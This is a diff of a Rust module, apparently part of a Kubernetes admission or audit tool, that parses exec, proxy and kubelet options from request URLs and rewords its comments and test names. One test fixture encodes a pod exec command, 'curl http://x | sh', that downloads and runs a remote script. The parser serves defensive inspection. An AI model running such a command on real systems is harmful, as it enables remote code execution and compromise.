@@ -1,10 +1,10 @@
-//! What the URL of a request says: the options of streams and proxies, and dry runs.
+//! Options in the URL of a request: those of streams and proxies, and dry runs.
 
 use form_urlencoded::parse;
 
 use crate::model::{Attribute, ConnectOptions, ObjectReference};
 
-/// Whether the query asks for `dryRun=All`, the only value there is.
+/// Whether the query requests a dry run; `All` is the only valid value of `dryRun`.
 pub(super) fn is_dry_run(uri: &str) -> bool {
     let (_, query) = halves(uri);
     parse(query.as_bytes()).any(|(key, value)| key == "dryRun" && value == "All")
@@ -14,8 +14,9 @@ fn halves(uri: &str) -> (&str, &str) {
     uri.split_once('?').unwrap_or((uri, ""))
 }
 
-/// The options of `pods/exec`, `attach`, `portforward` and `log`, and of `proxy` of pods,
-/// services and nodes. The body of such a request is the stream, so the URL has all.
+/// Returns the options of `pods/exec`, `attach`, `portforward`, and `log`, and of the
+/// `proxy` of pods, services, and nodes. The body of such a request is the stream, so all
+/// options are in the URL.
 pub(super) fn options(object: &ObjectReference, uri: &str) -> Option<ConnectOptions> {
     if !object.api_group.is_empty() {
         return None;
@@ -54,21 +55,21 @@ fn stream(query: &str) -> ConnectOptions {
     options
 }
 
-/// As Kubernetes reads a boolean of a query: all but `false` and `0` is true, also a
-/// key without a value (`k8s.io/apimachinery`, `Convert_Slice_string_To_bool`).
+/// Whether Kubernetes reads a value of a query as true: every value except `false` and `0`,
+/// even an empty one (`k8s.io/apimachinery`, `Convert_Slice_string_To_bool`).
 fn is_true(value: &str) -> bool {
     value != "0" && !value.eq_ignore_ascii_case("false")
 }
 
-/// A request to the kubelet's own API through `nodes/proxy`. Its `/run/`, `/exec/` and
-/// `/attach/` run commands in containers, with no `pods/exec` anywhere.
+/// Reads a request to the kubelet's own API through `nodes/proxy`. Its `/run/`, `/exec/`,
+/// and `/attach/` run commands in containers without a `pods/exec` request.
 fn kubelet(path: &str, query: &str) -> ConnectOptions {
     let behind = behind_proxy(path);
     let mut options = ConnectOptions::default();
     for (key, value) in parse(query.as_bytes()) {
         match key.as_ref() {
             "command" => options.command.push(value.into_owned()),
-            // The kubelet splits this one at blanks itself.
+            // The kubelet splits this value at spaces.
             "cmd" => options.command.extend(value.split(' ').map(str::to_owned)),
             "input" | "stdin" => options.stdin = is_true(&value),
             "output" | "stdout" => options.stdout = is_true(&value),
@@ -93,12 +94,12 @@ fn with_query(path: &str, query: &str) -> String {
     }
 }
 
-/// The path behind `/api/VERSION[/namespaces/NAMESPACE]/RESOURCE/NAME/proxy`, with
-/// `%XX` decoded as its receiver does, so that `/%72un/` is found as `/run/`.
+/// Returns the path after `/api/VERSION[/namespaces/NAMESPACE]/RESOURCE/NAME/proxy`, with
+/// `%XX` decoded as its receiver does, so that `/%72un/` is recognized as `/run/`.
 fn behind_proxy(path: &str) -> String {
     let mut segments = path.splitn(6, '/');
     let is_namespaced = segments.nth(3) == Some("namespaces");
-    // Named by its place: a namespace or a pod may be called `proxy`.
+    // By position, since a namespace or a pod may be named `proxy`.
     let before = if is_namespaced { 8 } else { 6 };
     let rest = path.splitn(before + 1, '/').nth(before);
     match rest {
@@ -124,7 +125,7 @@ mod tests {
     }
 
     #[test]
-    fn commands_keep_their_order_and_blanks() {
+    fn commands_keep_their_order_and_spaces() {
         let uri = "/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fx%20%7C+sh&container=app&stdin=true&stdout&tty=false&stderr=1";
         let options = of("pods", "exec", uri);
         assert_eq!(options.command, ["sh", "-c", "curl http://x | sh"]);
@@ -134,13 +135,13 @@ mod tests {
     }
 
     #[test]
-    fn ports_may_come_in_one_key_or_several() {
+    fn ports_are_read_from_one_key_or_several() {
         let options = of("pods", "portforward", "/x?ports=80,443&ports=8080");
         assert_eq!(options.ports, [80, 443, 8080]);
     }
 
     #[test]
-    fn proxies_have_the_path_behind_them() {
+    fn proxy_path_is_the_part_after_proxy() {
         let path = |resource, uri| of(resource, "proxy", uri).path;
         assert_eq!(
             path(
